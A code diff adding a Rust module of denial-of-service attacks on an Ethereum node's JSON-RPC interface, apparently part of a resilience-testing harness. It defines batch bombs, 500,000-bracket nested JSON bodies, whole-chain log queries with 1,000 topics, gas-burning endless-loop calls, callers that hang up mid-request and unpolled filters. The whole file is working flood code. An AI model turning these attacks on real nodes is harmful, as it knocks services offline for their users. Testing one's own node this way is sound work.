@@ -1,0 +1,170 @@
+//! Attacks by requests over JSON-RPC: too much, too deep, too long, and by callers who do not wait for the answer.
+
+use std::time::Duration;
+
+use anyhow::Result;
+use futures::future::BoxFuture;
+use serde_json::{Value, json};
+use tokio::io::AsyncWriteExt;
+
+use super::{
+    attack::{Attack, Face, Facts, Field},
+    http::{call, connect, post},
+};
+
+pub(super) const ALL: &[&dyn Attack] =
+    &[&BatchBomb, &DeepJson, &LogBomb, &CallBurner, &EstimateBurner, &GoneCallers, &IdleFilters];
+
+/// Init code that never ends: JUMPDEST, PUSH1 0, JUMP.
+const ENDLESS: &str = "0x5b600056";
+
+fn request(method: &str, params: &Value) -> String {
+    json!({ "jsonrpc": "2.0", "id": 1, "method": method, "params": params }).to_string()
+}
+
+struct BatchBomb;
+
+impl Attack for BatchBomb {
+    fn facts(&self) -> Facts {
+        Facts::new(Face::Http, "batch-bomb", "arrays of 1,000 calls and of 5,000, from 16 connections")
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(16, Duration::from_millis(100), |field, index| async move {
+            let count = if index % 4 == 0 { 5_000 } else { 1_000 };
+            let params = json!([format!("{:#x}", field.target.head), true]);
+            let calls = vec![request("eth_getBlockByNumber", &params); count];
+            call(&field, Field::address(index), &format!("[{}]", calls.join(","))).await
+        }))
+    }
+}
+
+struct DeepJson;
+
+impl Attack for DeepJson {
+    fn facts(&self) -> Facts {
+        Facts::new(
+            Face::Http,
+            "deep-json",
+            "bodies of 500,000 opening brackets, alone, as parameters and as an id",
+        )
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(8, Duration::from_millis(50), |field, index| async move {
+            let deep = "[".repeat(500_000);
+            let body = match index % 3 {
+                0 => deep,
+                1 => format!(r#"{{"jsonrpc":"2.0","id":1,"method":"eth_call","params":{deep}"#),
+                _ => format!(r#"{{"jsonrpc":"2.0","method":"eth_chainId","params":[],"id":{deep}"#),
+            };
+            call(&field, Field::address(index), &body).await
+        }))
+    }
+}
+
+struct LogBomb;
+
+impl Attack for LogBomb {
+    fn facts(&self) -> Facts {
+        Facts::new(
+            Face::Http,
+            "log-bomb",
+            "eth_getLogs over the whole chain, 24 at a time, half of them with 1,000 topics",
+        )
+        .quick()
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(24, Duration::from_millis(50), |field, index| async move {
+            let mut filter = json!({ "fromBlock": "0x0", "toBlock": "latest" });
+            if index % 2 == 0 {
+                filter["topics"] = json!([topics(index)]);
+            }
+            call(&field, Field::address(index), &request("eth_getLogs", &json!([filter]))).await
+        }))
+    }
+}
+
+/// As many topics as a position may have.
+pub(super) fn topics(salt: usize) -> Vec<String> {
+    (0..1_000).map(|topic| format!("0x{:064x}", topic * 1_000 + salt)).collect()
+}
+
+struct CallBurner;
+
+impl Attack for CallBurner {
+    fn facts(&self) -> Facts {
+        Facts::new(
+            Face::Http,
+            "call-burner",
+            "eth_call of a loop that burns all the gas there is, 24 at a time",
+        )
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(24, Duration::from_millis(20), |field, index| async move {
+            let params = json!([{ "data": ENDLESS }, "latest"]);
+            call(&field, Field::address(index), &request("eth_call", &params)).await
+        }))
+    }
+}
+
+struct EstimateBurner;
+
+impl Attack for EstimateBurner {
+    fn facts(&self) -> Facts {
+        Facts::new(
+            Face::Http,
+            "estimate-burner",
+            "eth_estimateGas of a loop that burns all the gas, 24 at a time",
+        )
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(24, Duration::from_millis(20), |field, index| async move {
+            let params = json!([{ "data": ENDLESS }]);
+            call(&field, Field::address(index), &request("eth_estimateGas", &params)).await
+        }))
+    }
+}
+
+struct GoneCallers;
+
+impl Attack for GoneCallers {
+    fn facts(&self) -> Facts {
+        let about = "callers who ask for costly work and hang up at once, 200 a second";
+        Facts::new(Face::Http, "gone-callers", about).item(16)
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(20, Duration::from_millis(100), |field, index| async move {
+            let body = match index % 2 {
+                0 => request("eth_call", &json!([{ "data": ENDLESS }, "latest"])),
+                _ => request("eth_getLogs", &json!([{ "fromBlock": "0x0", "toBlock": "latest" }])),
+            };
+            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            stream.write_all((post(body.len()) + &body).as_bytes()).await?;
+            stream.flush().await?;
+            // Long enough for the node to begin.
+            tokio::time::sleep(Duration::from_millis(5)).await;
+            Ok(())
+        }))
+    }
+}
+
+struct IdleFilters;
+
+impl Attack for IdleFilters {
+    fn facts(&self) -> Facts {
+        let about = "filters with 1,000 topics that nobody polls, 100 a second";
+        Facts::new(Face::Http, "idle-filters", about).item(16)
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(10, Duration::from_millis(50), |field, index| async move {
+            let filter = json!({ "fromBlock": "0x0", "topics": [topics(index)] });
+            call(&field, Field::address(index), &request("eth_newFilter", &json!([filter]))).await
+        }))
+    }
+}
